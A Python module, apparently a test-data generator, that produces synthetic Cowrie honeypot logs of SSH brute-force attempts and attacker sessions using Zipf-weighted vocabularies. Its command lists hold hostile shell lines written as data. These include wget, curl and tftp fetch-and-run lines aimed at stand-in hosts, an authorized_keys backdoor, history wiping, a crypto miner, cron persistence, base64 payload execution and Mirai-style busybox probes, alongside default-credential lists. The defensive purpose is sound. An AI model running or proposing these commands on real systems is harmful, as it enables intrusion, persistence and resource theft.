"""What attackers type and send: picked by Zipf's law from fixed lists, with a tail of values that never came before.

The heads of the lists are those of real Cowrie logs; shares were measured on the logs of two sensors of 2026.
"""

import base64
import hashlib
import json
import random
import string
from bisect import bisect
from collections.abc import Sequence
from itertools import accumulate
from pathlib import Path


def _words(text: str) -> tuple[str, ...]:
    return tuple(text.split())


USERS = _words(
    "root admin pi oracle ubuntu 345gs5662d34 support sol user zabbix ftpuser ansible minecraft guest user1"
    " Administrator tomcat centos solana git postgres test mysql hadoop www-data nagios jenkins deploy steam dev"
)
PASSWORDS = _words(
    "xc3511 admin toor raspberry 3245gs5662d34 oracle P@ssw0rd ubuntu 345gs5662d34 support anko 7ujMko0admin vizxv"
    " 123456 root 1 guest 1234 qwerty password 12345678 111111 admin123 1qaz2wsx letmein changeme default user test"
)
VERSIONS = _words(
    "SSH-2.0-Go SSH-2.0-libssh_0.9.6 SSH-2.0-libssh2_1.9.0 SSH-2.0-OpenSSH_7.4 SSH-2.0-paramiko_2.11.0 SSH-2.0-PUTTY"
    " SSH-2.0-Nmap-SSH2-Hostkey SSH-2.0-AsyncSSH_2.1.0"
)
KEX = tuple(json.loads((Path(__file__).parent / "kex.json").read_text()))
"""Two key exchanges of real clients, by the names of `cowrie.client.kex`'s fields."""

ROUTER_WORDS = ("enable", "system", "shell", "sh")
BOTS = ("PEACH", "ECCHI", "OWARI", "LZRD", "SATORI", "MIRAI", "iDdosYou")
HOSTS = ("192.0.2.14", "198.51.100.23", "203.0.113.66", "10.23.4.5", "192.168.1.77")
FILES = ("bins.sh", "i.sh", "sh", "arm7", "mips", "x86", "8UsA.sh", ".x/miner.tgz")
_KEY = "AAAAB3NzaC1yc2EA" * 23
PLAIN_COMMANDS = (
    "exit",
    "id",
    "cd ~; chattr -ia .ssh; lockr -ia .ssh",
    "passwd",
    "uname -a",
    "cat /proc/cpuinfo | grep name | wc -l",
    'cd ~ && rm -rf .ssh && mkdir .ssh && echo "ssh-rsa '
    + "AAAAB3NzaC1yc2EA" * 23
    + ' mdrfckr">>.ssh/authorized_keys && chmod -R go= ~/.ssh',
    "rm -rf /tmp/secure.sh; rm -rf /tmp/auth.sh; pkill -9 secure.sh; pkill -9 auth.sh; echo > /etc/hosts.deny;",
    "uname -s -v -n -r -m",
    "history -c",
    "export HISTFILE=/dev/null",
    "cat /proc/uptime 2 > /dev/null | cut -d. -f1",
    "nproc",
    "ls -lh $(which ls)",
    "xmrig -o stratum+tcp://192.0.2.14:3333",
    "df -h | head -n 2 | awk 'FNR == 2 {print $2;}'",
    "locate D877F783D5D3EF8Cs",
    "whoami",
    'echo "$(uname -s -m 2>/dev/null)"',
    "lscpu | grep Model",
    "w",
    "crontab -l",
    "/ip cloud print",
    "free -m | grep Mem | awk '{print $2 ,$3, $4, $5, $6, $7}'",
    "top",
    "ls -la /dev/ttyGSM* /dev/ttyUSB-mod* /var/spool/sms/* /var/log/smsd.log /etc/smsd.conf* /usr/bin/qmuxd",
    "ps -ef",
    "cat /etc/passwd",
    "echo 密码🔥",
    "echo \x1b]0;pwned\x07",
)
_LONG_LENGTHS = (300, 2_000, 9_000, 20_000, 60_000)
_FRESH_PASSWORD = 0.06
_FRESH_HASH = 0.15
_FRESH_TOKEN = 0.05
_LONG, _OWN = 0.012, 0.2


class Zipf:
    """Draws an index below `size`, the k-th with weight 1 / k ** `exponent`."""

    def __init__(self, rng: random.Random, size: int, exponent: float) -> None:
        self._random = rng.random
        self._cumulative = list(accumulate(1 / (rank + 1) ** exponent for rank in range(size)))

    def draw(self) -> int:
        """The next index."""
        return bisect(self._cumulative, self._random() * self._cumulative[-1])


class Vocabulary:
    """Values of one generated log, reproducible by `rng`."""

    def __init__(self, rng: random.Random, addresses: int = 4_000) -> None:
        self.rng = rng
        self._addresses = [self._address() for _ in range(addresses)]
        self._words = [self._word(rng.randint(4, 10)) + str(rng.randrange(1_000)) for _ in range(20_000)]
        self._blobs = [self._blob(length) for length in _LONG_LENGTHS for _ in range(4)]
        self._zipf = {
            "address": Zipf(rng, addresses, 1.05),
            "user": Zipf(rng, len(USERS), 1.5),
            "password": Zipf(rng, len(PASSWORDS) + len(self._words), 1.0),
            "command": Zipf(rng, len(PLAIN_COMMANDS), 0.6),
            "hash": Zipf(rng, 500, 1.1),
        }

    def address(self) -> str:
        """Where a session comes from."""
        return self._addresses[self._zipf["address"].draw()]

    def user(self) -> str:
        """A login name; one in a hundred was never seen before."""
        return self._word(8) if self.rng.random() < 0.01 else USERS[self._zipf["user"].draw()]

    def password(self) -> str:
        """A password; one in seventeen was never seen before."""
        if self.rng.random() < _FRESH_PASSWORD:
            return self._word(self.rng.randint(6, 14)) + str(self.rng.randrange(10_000))
        index = self._zipf["password"].draw()
        return PASSWORDS[index] if index < len(PASSWORDS) else self._words[index - len(PASSWORDS)]

    def command(self) -> str:
        """A line as typed in an SSH session: mostly one of a few, at times one of its own, seldom a very long one."""
        chance = self.rng.random()
        if chance < _LONG:
            blob = self.rng.choice(self._blobs) if chance < _LONG / 2 else self._blob(self.rng.choice(_LONG_LENGTHS))
            return f"echo {blob}|base64 -d > /tmp/big; sh /tmp/big"
        return self._own_command() if chance < _OWN else PLAIN_COMMANDS[self._zipf["command"].draw()]

    def _own_command(self) -> str:
        host, name, number = self.rng.choice(HOSTS), self.rng.choice(FILES), self.rng.randrange(3_000)
        job = number % 10
        return self.rng.choice(
            (
                f"cd /tmp || cd /mnt; wget http://{host}/{name}; chmod 777 {name}; sh {name}; rm -rf {name}",
                f"curl -s -o /tmp/a http://{host}/{name}?id={number}&v=2",
                f'echo "payload-{number}" > /tmp/.p{number}; chmod +x /tmp/.p{number}; /tmp/.p{number}',
                f'echo "root:{self._word(10)}{number}"|chpasswd|bash',
                f"tftp -g -r {name} {host}",
                f'echo "*/1 * * * * /tmp/.p{job}" > /tmp/cron{job}; crontab /tmp/cron{job}',
                f"wget -q http://{host}:8080/{name} -O /tmp/.{name}",
            )
        )

    def probes(self) -> list[str]:
        """What a Mirai-like bot types behind the router's words."""
        fresh = self.rng.random() < _FRESH_TOKEN
        token = "".join(self.rng.choices(string.ascii_uppercase, k=5)) if fresh else self.rng.choice(BOTS)
        fetched = f"http://{self.rng.choice(HOSTS)}/{token.lower()}.arm7"
        lines = [
            f"/bin/busybox {token}",
            f"cat /proc/mounts; /bin/busybox {token}",
            f"cd /dev/shm; cat .s || cp /bin/echo .s; /bin/busybox {token}",
            f"tftp; wget; /bin/busybox {token}",
            "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s",
            f"/bin/busybox wget {fetched} -O - > dvrH; /bin/busybox chmod 777 dvrH; ./dvrH loader.wget",
            "rm .s; exit",
        ]
        return lines[: self.rng.randint(0, len(lines))]

    def shasum(self) -> str:
        """A file's SHA-256; one in seven was never seen before."""
        seed = self.rng.getrandbits(64) if self.rng.random() < _FRESH_HASH else self._zipf["hash"].draw()
        return hashlib.sha256(str(seed).encode()).hexdigest()

    def _address(self) -> str:
        return ".".join(str(self.rng.randint(1, 223)) for _ in range(4))

    def _word(self, length: int) -> str:
        return "".join(self.rng.choices(string.ascii_lowercase, k=length))

    def _blob(self, length: int) -> str:
        return base64.b64encode(self.rng.randbytes(length * 3 // 4)).decode()


def pick(rng: random.Random, weights: Sequence[int]) -> int:
    """An index of `weights`, by weight."""
    point = rng.random() * sum(weights)
    return bisect(list(accumulate(weights)), point)
